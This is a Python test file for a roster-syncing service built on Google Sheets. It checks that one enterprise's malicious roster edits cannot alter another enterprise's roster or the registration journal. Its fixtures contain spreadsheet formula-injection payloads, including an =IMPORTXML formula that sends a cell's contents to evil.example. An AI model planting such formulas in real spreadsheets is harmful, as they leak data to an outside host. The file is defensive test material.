"""An enterprise that may edit its roster and means harm: it spoils what it sees itself, and nothing else."""

from __future__ import annotations

import pytest

from tests.stage import ENTERPRISE, SLOT, TOUR, Stage, offered, stage
from zapis.core.entries import Entry, Requested, from_row, parse_moment, to_row
from zapis.core.fold import State, fold
from zapis.core.ids import registration_id
from zapis.core.model import PersonKey, SlotId
from zapis.core.people import Person
from zapis.core.people import to_row as person_row
from zapis.core.ticks import line_id

AT = parse_moment("2030-12-01T07:00:00Z")
HOSTILE = ('=IMPORTXML("https://evil.example/?q="&A1;"//a")', '=HYPERLINK("https://evil.example";"Анна")', "'=1+1")


@pytest.fixture
def on_stage(tmp_path):
    """Two enterprises, each with its roster and one visitor."""
    with stage(tmp_path, offered) as running:
        other = running.file("Список пекарни", "roster")
        link = f"https://docs.google.com/spreadsheets/d/{other}/edit"
        running.fill("enterprises", 3, ENTERPRISE | {"name": "Пекарня", "roster": link})
        running.fill("tours", 3, TOUR | {"title": "Хлеб", "enterprise": "Пекарня"})
        running.fill("slots", 3, SLOT | {"tour": "Хлеб", "date": "13.12.2030"})
        running.other = other
        yield running


def state(on_stage: Stage) -> State:
    return fold(entry for entry in map(from_row, on_stage.journal()) if isinstance(entry, Entry))


def register(on_stage: Stage, slot: SlotId, name: str):
    registration = registration_id(slot, name)
    fact = Requested((30,), (PersonKey(name),), True, name)
    person = Person(name, f"{len(name)}@example.com", "+79160000000", (name,))
    entry = Entry(AT, registration, slot, "site", fact)
    on_stage.append(journal=[to_row(entry)], people=[person_row(registration, person)])
    return registration


def test_what_it_types_reaches_neither_another_enterprise_nor_the_journal(on_stage):
    sync = on_stage.syncer()
    on_stage.settle(sync)
    here, there = sorted(state(on_stage).slots, key=lambda slot: state(on_stage).slots[slot].terms.starts)
    _, foreign = register(on_stage, here, "Анна Орлова"), register(on_stage, there, "Борис Котов")
    on_stage.settle(sync)
    before = on_stage.rows(on_stage.other, "Посетители")

    on_stage.type("Посетители", 2, "_id", line_id(foreign, 0), on_stage.roster)
    on_stage.type("Посетители", 2, "Пришли", "TRUE", on_stage.roster)
    for number, formula in enumerate(HOSTILE, 3):
        on_stage.type("Посетители", number, "Заметки", formula, on_stage.roster)
        on_stage.type("Посетители", number, "_id", f"{foreign}.{10**9 + number}", on_stage.roster)
        on_stage.type("Посетители", number, "Пришли", "TRUE", on_stage.roster)
    on_stage.settle(on_stage.syncer(writer="another"))

    assert on_stage.rows(on_stage.other, "Посетители") == before
    assert {row["Фамилия и имя"] for row in before} == {"Борис Котов"}
    known = state(on_stage)
    assert known.registrations[foreign].attended is None
    assert not [row for row in on_stage.journal() if "evil.example" in repr(row)]
